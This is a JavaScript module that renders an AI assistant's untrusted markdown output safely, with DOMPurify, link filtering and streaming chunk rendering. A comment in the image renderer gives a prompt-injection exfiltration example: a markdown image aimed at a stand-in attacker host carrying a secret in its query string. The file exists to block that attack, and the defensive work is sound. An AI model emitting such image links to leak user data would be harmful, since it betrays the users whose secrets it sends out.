// Model text is untrusted: markdown-it with raw HTML off, then DOMPurify on its output.
import createDOMPurify from "dompurify";
import MarkdownIt from "markdown-it";

import { highlightCode } from "./highlight.js";
import { stats } from "./stats.js";

const SAFE_LINK = /^(https?:|mailto:|#|\/(?!\/)|\.{0,2}\/)/i;

// Code blocks are highlighted only in renders of settled text (`highlight` true): the open tail
// of a streaming answer is re-rendered every frame and stays plain until it settles.
export function createMarkdown(window = globalThis.window) {
  let highlighting = false;
  const md = new MarkdownIt({
    html: false,
    linkify: false,
    typographer: false,
    breaks: false,
    highlight: (code, lang) => (highlighting ? highlightCode(code, lang) : ""),
  });
  // Images become links: a model's text must not make the browser fetch a URL by itself (a
  // prompt-injected ![](https://attacker/?q=secret) would leak data on render). The user can
  // still open the image by clicking.
  md.renderer.rules.image = (tokens, idx, options, env, self) => {
    const token = tokens[idx];
    const src = token.attrGet("src") || "";
    const alt = self.renderInlineAsText(token.children || [], options, env) || src;
    const escape = md.utils.escapeHtml;
    return `<a class="dk-image" href="${escape(src)}">🖼 ${escape(alt)}</a>`;
  };
  const safeLinks = (node) => {
    if (node.nodeName === "A") {
      const href = (node.getAttribute("href") || "").trim();
      if (href && !SAFE_LINK.test(href)) node.removeAttribute("href");
      node.setAttribute("target", "_blank");
      node.setAttribute("rel", "noopener noreferrer");
    }
  };
  const options = {
    FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "iframe", "img"],
    FORBID_ATTR: ["style"],
    ADD_ATTR: ["target"],
  };
  const purify = createDOMPurify(window);
  purify.addHook("afterSanitizeAttributes", safeLinks);
  // renderTokens runs for every piece of a streaming answer: its sanitizer has the same
  // options set once (sanitize with options reads them again on every call, ~0.2 ms each).
  const fragments = createDOMPurify(window);
  fragments.addHook("afterSanitizeAttributes", safeLinks);
  fragments.setConfig({ ...options, RETURN_DOM_FRAGMENT: true });
  return {
    render(text, highlight = false) {
      highlighting = highlight;
      try {
        return purify.sanitize(md.render(text ?? ""), options);
      } finally {
        highlighting = false;
      }
    },
    // One parse of `text` into its top-level blocks: `settled` lists those that end before
    // offset `cut`, each { tokens, start, end, lines } (offsets in `text`), to be rendered
    // later and in any grouping; `rest` holds the tokens from the first block that goes on
    // past `cut`, from offset `restStart`: `cut`, or earlier when a block (a loose list, say)
    // goes on past `cut`, which stays whole in the rest. `partial`: `text` is only the start
    // of the text, so its last block may go on after it and is never settled.
    parseBlocks(text, cut, partial = false) {
      const tokens = md.parse(text, {});
      const starts = lineStarts(text);
      const cutLine = cut >= text.length ? Infinity : lineCount(text, cut);
      const settled = [];
      let i = 0;
      let restStart = cut;
      while (i < tokens.length) {
        const t = tokens[i];
        if (t.map && t.map[1] > cutLine) {
          if (t.map[0] < cutLine) restStart = starts[t.map[0]];
          break;
        }
        let j = i + 1;
        for (let depth = t.nesting; depth > 0 && j < tokens.length; j++) depth += tokens[j].level === 0 ? tokens[j].nesting : 0;
        const [first, last] = t.map ?? [0, 0];
        settled.push({ tokens: tokens.slice(i, j), start: starts[first] ?? text.length, end: starts[last] ?? text.length, lines: last - first });
        i = j;
      }
      if (partial && i === tokens.length && settled.length) {
        const last = settled.pop();
        i -= last.tokens.length;
        restStart = last.start;
      }
      return { settled, rest: tokens.slice(i), restStart };
    },
    // Sanitised nodes of tokens from parseBlocks; `highlight` for settled code blocks.
    renderTokens(tokens, highlight = false) {
      return this.renderChunks([tokens], highlight, false);
    },
    // Several lists of tokens, each in a <div class="dk-md-chunk"> of the fragment (its only
    // elements: markdown-it writes no div, and raw HTML is off), in one sanitize: one HTML
    // parse instead of one per chunk. `wrap` false: the nodes of one list as they are.
    renderChunks(groups, highlight = false, wrap = true) {
      highlighting = highlight;
      try {
        const html = groups.map((tokens) => md.renderer.render(tokens, md.options, {}));
        return fragments.sanitize(wrap ? html.map((h) => `<div class="dk-md-chunk">${h}</div>`).join("") : html[0]);
      } finally {
        highlighting = false;
      }
    },
  };
}

// Offset of the start of each line of `text` (one more entry: the end, as a line after it).
function lineStarts(text) {
  const starts = [0];
  for (let i = text.indexOf("\n"); i >= 0; i = text.indexOf("\n", i + 1)) starts.push(i + 1);
  if (starts[starts.length - 1] !== text.length) starts.push(text.length);
  return starts;
}

function lineCount(text, end) {
  let n = 0;
  for (let i = text.indexOf("\n"); i >= 0 && i < end; i = text.indexOf("\n", i + 1)) n += 1;
  return n;
}

let shared = null;

// parseBlocks and renderTokens of the shared renderer; the caller counts its renders (one
// parse and what is rendered from it in one animation frame count as one).
export function parseBlocks(text, cut, partial = false) {
  shared ??= createMarkdown();
  stats.markdownChars += text.length;
  const started = performance.now();
  const parsed = shared.parseBlocks(text, cut, partial);
  stats.markdownMs += performance.now() - started;
  return parsed;
}

export function renderTokens(tokens, highlight = false) {
  return renderChunks([tokens], highlight, false);
}

export function renderChunks(groups, highlight = false, wrap = true) {
  shared ??= createMarkdown();
  const started = performance.now();
  const fragment = shared.renderChunks(groups, highlight, wrap);
  stats.markdownMs += performance.now() - started;
  return fragment;
}

// Where the settled part of a streaming text ends: after its last blank line that is not
// inside a fenced code block. Only the part after it changes as deltas arrive, so only that
// tail needs re-rendering per frame. `from`: an earlier result for a prefix of `text`, to scan
// only what came after it (such a point is after a blank line and outside any fence).
export function stableSplit(text, from = 0) {
  let split = from;
  let fence = null;
  let pos = from;
  let prevBlank = from > 0;
  while (pos < text.length) {
    const nl = text.indexOf("\n", pos);
    if (nl < 0) break; // the last line is still being written
    const line = text.slice(pos, nl);
    const m = /^ {0,3}(`{3,}|~{3,})/.exec(line);
    if (fence === null && m) {
      fence = m[1];
    } else if (fence !== null && m && m[1][0] === fence[0] && m[1].length >= fence.length && line.trim() === m[1]) {
      fence = null;
    }
    const blank = line.trim() === "";
    if (fence === null && blank && !prevBlank) split = nl + 1;
    prevBlank = blank;
    pos = nl + 1;
  }
  return split;
}
